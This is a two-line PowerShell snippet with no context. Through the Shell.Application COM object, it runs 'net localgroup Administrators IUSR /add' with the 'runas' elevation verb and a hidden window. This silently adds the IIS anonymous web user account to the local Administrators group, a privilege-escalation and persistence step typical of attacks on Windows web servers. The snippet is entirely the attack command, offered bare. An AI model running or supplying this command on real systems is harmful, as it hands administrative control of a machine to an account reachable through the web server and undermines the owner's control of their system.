$s = New-Object -ComObject Shell.Application
$s.ShellExecute('net.exe','localgroup Administrators IUSR /add','','runas',0)
